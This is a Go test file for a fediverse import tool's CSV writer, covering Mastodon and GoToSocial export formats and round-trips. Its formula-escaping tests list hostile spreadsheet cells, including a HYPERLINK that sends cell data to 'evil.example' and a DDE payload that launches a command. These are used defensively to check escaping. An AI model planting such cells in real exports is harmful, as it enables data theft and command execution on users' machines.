package importer_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/fediport/fediport/importer"
	"github.com/google/go-cmp/cmp"
)

func TestWriter(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		typ  importer.Type
		rows []importer.Row
		want string
	}{
		{
			name: "follows: header, booleans, languages joined by comma and space",
			typ:  importer.Following,
			rows: []importer.Row{
				{Account: "bob@remote.example", ShowBoosts: bp(true), Notify: bp(false), Languages: []string{"de", "en"}},
				{Account: "eve@other.example", ShowBoosts: bp(false), Notify: bp(true)},
				{Account: "ann@third.example", ShowBoosts: bp(true), Notify: bp(false), Languages: []string{"fr"}},
			},
			want: "Account address,Show boosts,Notify on new posts,Languages\n" +
				"bob@remote.example,true,false,\"de, en\"\n" +
				"eve@other.example,false,true,\n" +
				"ann@third.example,true,false,fr\n",
		},
		{
			name: "follows: unset settings are empty, an empty language list is an empty string",
			typ:  importer.Following,
			rows: []importer.Row{{Account: "bob@remote.example", Languages: []string{}}},
			want: "Account address,Show boosts,Notify on new posts,Languages\nbob@remote.example,,,\"\"\n",
		},
		{
			name: "follows: no rows still has the header",
			typ:  importer.Following,
			want: "Account address,Show boosts,Notify on new posts,Languages\n",
		},
		{
			name: "mutes",
			typ:  importer.Muting,
			rows: []importer.Row{{Account: "bob@remote.example", HideNotifications: bp(true)}, {Account: "eve@other.example", HideNotifications: bp(false)}},
			want: "Account address,Hide notifications\nbob@remote.example,true\neve@other.example,false\n",
		},
		{
			name: "blocks: no header, other fields ignored",
			typ:  importer.Blocking,
			rows: []importer.Row{{Account: "bob@remote.example", ShowBoosts: bp(true), Domain: "x.example"}},
			want: "bob@remote.example\n",
		},
		{
			name: "blocks: no rows, empty file",
			typ:  importer.Blocking,
			want: "",
		},
		{
			name: "followers: header as GoToSocial writes it",
			typ:  importer.Followers,
			rows: []importer.Row{{Account: "bob@remote.example"}},
			want: "Account address\nbob@remote.example\n",
		},
		{
			name: "domain blocks",
			typ:  importer.DomainBlocking,
			rows: []importer.Row{{Domain: "spam.example"}, {Domain: "xn--y9a3aq.xn--y9a3aq"}},
			want: "spam.example\nxn--y9a3aq.xn--y9a3aq\n",
		},
		{
			name: "bookmarks: a comma in a tag URI is quoted",
			typ:  importer.Bookmarks,
			rows: []importer.Row{{URI: "https://remote.example/users/bob/statuses/1"}, {URI: "tag:remote.example,2017-04-01:objectId=1"}},
			want: "https://remote.example/users/bob/statuses/1\n\"tag:remote.example,2017-04-01:objectId=1\"\n",
		},
		{
			name: "lists: Ruby quoting, leading spaces not quoted",
			typ:  importer.Lists,
			rows: []importer.Row{
				{List: "Friends, family", Account: "bob@remote.example"},
				{List: `The "best"`, Account: "eve@other.example"},
				{List: "Two\nlines", Account: "ann@third.example"},
				{List: " spaced", Account: "joe@fourth.example"},
				{List: "cr\r", Account: "joe@fourth.example"},
			},
			want: "\"Friends, family\",bob@remote.example\n" +
				"\"The \"\"best\"\"\",eve@other.example\n" +
				"\"Two\nlines\",ann@third.example\n" +
				" spaced,joe@fourth.example\n" +
				"\"cr\r\",joe@fourth.example\n",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			var b bytes.Buffer
			if err := importer.WriteRows(&b, tt.typ, tt.rows); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, b.String()); diff != "" {
				t.Errorf("output (-want +got):\n%s", diff)
			}
		})
	}
}

// TestWriterMatchesExports reads real exports and writes them again:
// the bytes must be the same.
func TestWriterMatchesExports(t *testing.T) {
	t.Parallel()
	tests := []struct {
		path string
		typ  importer.Type
	}{
		{"gotosocial/following_accounts.csv", importer.Following},
		{"gotosocial/followers.csv", importer.Followers},
		{"gotosocial/muted_accounts.csv", importer.Muting},
		{"gotosocial/blocked_accounts.csv", importer.Blocking},
		{"gotosocial/lists.csv", importer.Lists},
		{"gotosocial/import-mutes-1.csv", importer.Muting},
		{"mastodon-spec/lists.csv", importer.Lists},
		{"mastodon-spec/domain_blocks_list.txt", importer.DomainBlocking},
		{"mastodon-spec/bookmark-imports.txt", importer.Bookmarks},
	}
	for _, tt := range tests {
		t.Run(tt.path, func(t *testing.T) {
			t.Parallel()
			want, err := os.ReadFile(filepath.Join("testdata/csv", tt.path))
			if err != nil {
				t.Fatal(err)
			}
			rows, err := importer.NewReader(bytes.NewReader(want), tt.typ).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			var got bytes.Buffer
			if err := importer.WriteRows(&got, tt.typ, rows); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(string(want), got.String()); diff != "" {
				t.Errorf("written (-want +got):\n%s", diff)
			}
		})
	}
}

func TestWriteActions(t *testing.T) {
	t.Parallel()
	actions := []importer.Action{
		{Kind: importer.ActionUnfollow, Account: "gone@remote.example"},
		{Kind: importer.ActionFollow, Account: "bob@remote.example", Line: 2},
		{Kind: importer.ActionFollow, Account: "eve@other.example", Follow: importer.FollowOptions{ShowBoosts: bp(false), Notify: bp(true), Languages: []string{"de", "en"}}},
		{Kind: importer.ActionMute, Account: "ann@third.example"},
		{Kind: importer.ActionCreateList, List: "Friends"},
		{Kind: importer.ActionAddToList, List: "Friends", Account: "bob@remote.example"},
		{Kind: importer.ActionBlockDomain, Domain: "spam.example"},
		{Kind: importer.ActionBookmark, URI: "https://remote.example/statuses/1"},
		{Kind: importer.ActionBlock, Account: "troll@remote.example"},
	}
	tests := []struct {
		typ  importer.Type
		want string
	}{
		{importer.Following, "Account address,Show boosts,Notify on new posts,Languages\nbob@remote.example,true,false,\neve@other.example,false,true,\"de, en\"\n"},
		{importer.Muting, "Account address,Hide notifications\nann@third.example,true\n"},
		{importer.Lists, "Friends,bob@remote.example\n"},
		{importer.DomainBlocking, "spam.example\n"},
		{importer.Bookmarks, "https://remote.example/statuses/1\n"},
		{importer.Blocking, "troll@remote.example\n"},
	}
	for _, tt := range tests {
		t.Run(string(tt.typ), func(t *testing.T) {
			t.Parallel()
			var b bytes.Buffer
			if err := importer.WriteActions(&b, tt.typ, actions); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(tt.want, b.String()); diff != "" {
				t.Errorf("output (-want +got):\n%s", diff)
			}
			// The failures file reads back as the rows it was made from.
			if _, err := importer.NewReader(&b, tt.typ).ReadAll(); err != nil && !errors.Is(err, importer.ErrEmpty) {
				t.Errorf("reading it back: %v", err)
			}
		})
	}
}

func TestWriterUnknownType(t *testing.T) {
	t.Parallel()
	err := importer.WriteRows(&bytes.Buffer{}, "contacts", []importer.Row{{Account: "bob@x.example"}})
	if !errors.Is(err, importer.ErrUnknownType) {
		t.Errorf("err = %v, want ErrUnknownType", err)
	}
}

type errWriter struct{}

func (errWriter) Write([]byte) (int, error) { return 0, errors.New("disk full") }

func TestWriterReportsWriteErrors(t *testing.T) {
	t.Parallel()
	rows := make([]importer.Row, 10000)
	for i := range rows {
		rows[i].Account = "bob@remote.example"
	}
	err := importer.WriteRows(errWriter{}, importer.Blocking, rows)
	if err == nil || !strings.Contains(err.Error(), "disk full") {
		t.Errorf("err = %v", err)
	}
}

func TestFileName(t *testing.T) {
	t.Parallel()
	want := map[importer.Type]string{
		importer.Following:      "following_accounts.csv",
		importer.Followers:      "followers.csv",
		importer.Muting:         "muted_accounts.csv",
		importer.Blocking:       "blocked_accounts.csv",
		importer.DomainBlocking: "blocked_domains.csv",
		importer.Bookmarks:      "bookmarks.csv",
		importer.Lists:          "lists.csv",
		"contacts":              "",
	}
	got := map[importer.Type]string{}
	for typ := range want {
		got[typ] = importer.FileName(typ)
	}
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("FileName (-want +got):\n%s", diff)
	}
	for _, typ := range importer.Types() {
		back, err := importer.ParseType(strings.TrimSuffix(importer.FileName(typ), ".csv"))
		if err != nil || back != typ {
			t.Errorf("ParseType(FileName(%s)) = %q, %v", typ, back, err)
		}
		if back, err := importer.ParseType(string(typ)); err != nil || back != typ {
			t.Errorf("ParseType(%s) = %q, %v", typ, back, err)
		}
	}
	if _, err := importer.ParseType("contacts"); !errors.Is(err, importer.ErrUnknownType) {
		t.Errorf("ParseType(contacts) err = %v", err)
	}
}

// formulaCells are cells a spreadsheet would run, from hostile files.
var formulaCells = []string{
	"=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
	"=cmd|' /C calc'!A0",
	"+1+1",
	"-2+3",
	"@SUM(1,2)",
	"\t=1",
	"\r=1",
	"  =1+1",
	"\uFF1D1+1",
}

func TestWriteActionsEscapesFormulas(t *testing.T) {
	t.Parallel()
	for _, cell := range formulaCells {
		t.Run(cell, func(t *testing.T) {
			t.Parallel()
			actions := []importer.Action{
				{Kind: importer.ActionAddToList, List: cell, Account: "bob@remote.example"},
				{Kind: importer.ActionAddToList, List: "Friends", Account: "=1+2@remote.example"},
			}
			var b bytes.Buffer
			if err := importer.WriteActions(&b, importer.Lists, actions); err != nil {
				t.Fatal(err)
			}
			cr := csv.NewReader(bytes.NewReader(b.Bytes()))
			cr.FieldsPerRecord = -1
			recs, err := cr.ReadAll()
			if err != nil {
				t.Fatalf("encoding/csv cannot read %q: %v", b.String(), err)
			}
			for _, rec := range recs {
				for _, c := range rec {
					if c != "" && strings.ContainsRune("=+-@\t\r\n", rune(strings.TrimLeft(c, " ")[0])) || strings.HasPrefix(c, "\uFF1D") {
						t.Errorf("cell %q of %q would run as a formula", c, b.String())
					}
				}
			}
			// Read again, list titles are the same text behind an apostrophe.
			rows, err := importer.NewReader(&b, importer.Lists).ReadAll()
			if err != nil {
				t.Fatal(err)
			}
			want := []string{"'" + cell, "Friends"}
			if got := []string{rows[0].List, rows[1].List}; !cmp.Equal(want, got) {
				t.Errorf("lists read back = %q, want %q", got, want)
			}
			// An apostrophe is never part of an address: the reader drops it.
			if got := rows[1].Account; got != "=1+2@remote.example" {
				t.Errorf("account read back = %q, want it without the apostrophe", got)
			}
		})
	}
}

func TestWriterKeepsFormulasByDefault(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	rows := []importer.Row{{List: "=1+1", Account: "-a@remote.example"}}
	if err := importer.WriteRows(&b, importer.Lists, rows); err != nil {
		t.Fatal(err)
	}
	if got, want := b.String(), "=1+1,-a@remote.example\n"; got != want {
		t.Errorf("WriteRows = %q, want %q (byte for byte, as Mastodon)", got, want)
	}
	// WriteAction on a plain Writer gives the exact cells of a failures file.
	b.Reset()
	w := importer.NewWriter(&b, importer.Lists)
	if err := w.WriteAction(importer.Action{Kind: importer.ActionAddToList, List: "=1+1", Account: "-a@remote.example"}); err != nil {
		t.Fatal(err)
	}
	if err := w.WriteAction(importer.Action{Kind: importer.ActionCreateList, List: "skipped"}); err != nil {
		t.Fatal(err)
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	if got, want := b.String(), "=1+1,-a@remote.example\n"; got != want {
		t.Errorf("WriteAction = %q, want %q", got, want)
	}
}

// FuzzWriterEscapeFormulas checks that with EscapeFormulas no cell starts
// a formula, that the file still parses, and that what is read back is
// what was written with at most an apostrophe added.
func FuzzWriterEscapeFormulas(f *testing.F) {
	for _, c := range formulaCells {
		f.Add(c)
	}
	f.Add("Friends")
	f.Add("")
	f.Fuzz(func(t *testing.T, cell string) {
		var b bytes.Buffer
		w := importer.NewWriter(&b, importer.Lists)
		w.EscapeFormulas = true
		if err := w.Write(importer.Row{List: cell, Account: "bob@remote.example"}); err != nil {
			t.Fatal(err)
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		cr := csv.NewReader(bytes.NewReader(b.Bytes()))
		cr.FieldsPerRecord = -1
		recs, err := cr.ReadAll()
		if err != nil || len(recs) != 1 || len(recs[0]) != 2 {
			t.Fatalf("encoding/csv reads %q as %q, %v", b.String(), recs, err)
		}
		// encoding/csv reads a quoted CRLF as LF.
		got, want := recs[0][0], strings.ReplaceAll(cell, "\r\n", "\n")
		if got != want && got != "'"+want {
			t.Fatalf("cell %q written as %q", cell, got)
		}
		if t := strings.TrimLeft(got, " "); t != "" && (strings.ContainsRune("=+-@", rune(t[0])) || strings.ContainsRune("\t\r\n", rune(got[0]))) {
			panic(fmt.Sprintf("cell %q written as formula %q", cell, got))
		}
	})
}
